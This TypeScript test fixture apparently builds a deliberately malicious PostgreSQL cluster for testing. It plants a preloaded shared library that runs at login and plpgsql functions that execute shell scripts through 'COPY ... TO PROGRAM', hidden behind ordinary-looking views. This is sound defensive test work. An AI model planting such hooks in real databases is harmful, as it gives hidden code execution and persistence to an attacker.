/** A cluster whose owner was superuser, and meant harm: its code lies in the data directory and runs at the first log-in. */
import { chown, copyFile, cp, mkdir, readdir, writeFile } from "node:fs/promises";
import { join, resolve } from "node:path";
import { execa } from "execa";
import { cacheDirectory } from "../cache.ts";

/** Debian's nobody: initdb wants an account with a name. */
const NOBODY = 65_534;
const HERE = resolve("test/rig/hostile");

export interface Hostile {
  /** A port of loopback, which it calls. */
  readonly port: number;
  /** A file that anybody on this machine may read, and that it must not. */
  readonly key: string;
  /** The target of the links that it puts in place of files that are written later. */
  readonly victim: string;
  /** A word in the command of the processes that it leaves running. */
  readonly mark: string;
  /** Somebody else's socket. */
  readonly elsewhere: string;
}

const functionOf = (name: string, script: string): string =>
  `CREATE FUNCTION ${name}() RETURNS integer LANGUAGE plpgsql AS $$ BEGIN COPY (SELECT 1) TO PROGRAM 'sh base/${script}'; RETURN 1; END $$;`;

const SQL = [
  "ALTER ROLE postgres SET session_preload_libraries = 'base/evil.so';",
  functionOf("evil", "evil.sh"),
  functionOf("elsewhere", "elsewhere.sh"),
  "CREATE VIEW registrations AS SELECT evil() AS n;",
  "CREATE VIEW moved AS SELECT elsewhere() AS n;",
  "CREATE TABLE visits AS SELECT generate_series(1, 60) AS n;",
];

/** Below `root`, which everybody may enter: programs in `postgresql/bin`, the data in `hostile`. */
export async function hostileCluster(root: string, hostile: Hostile): Promise<{ programs: string; data: string }> {
  await cp(join(cacheDirectory, "pgsql-13.14"), join(root, "postgresql"), { recursive: true, verbatimSymlinks: true });
  const programs = join(root, "postgresql", "bin");
  const data = join(root, "hostile");
  await mkdir(data, { mode: 0o700 });
  await chown(data, NOBODY, NOBODY);
  const as = { uid: NOBODY, gid: NOBODY, cwd: "/", env: { LC_ALL: "C", PATH: "/usr/bin:/bin" }, extendEnv: false };
  await execa(join(programs, "initdb"), ["-D", data, "-U", "postgres", "-A", "trust", "--locale=C", "-N"], as);
  const single = ["--single", "-D", data, "postgres"];
  // Errors of single-user mode do not end it.
  const { stderr } = await execa(join(programs, "postgres"), single, { ...as, input: `${SQL.join("\n")}\n` });
  if (/ERROR|FATAL/.test(stderr)) throw new Error(stderr);
  const base = join(data, "base");
  await execa("gcc", ["-shared", "-fPIC", `-DPORT=${hostile.port}`, "-o", join(base, "evil.so"), join(HERE, "evil.c")]);
  for (const name of ["evil.sh", "elsewhere.sh"]) await copyFile(join(HERE, name), join(base, name));
  for (const name of ["key", "victim", "mark", "elsewhere"] as const) await writeFile(join(base, name), hostile[name]);
  for (const name of await readdir(base)) await chown(join(base, name), NOBODY, NOBODY);
  return { programs, data };
}
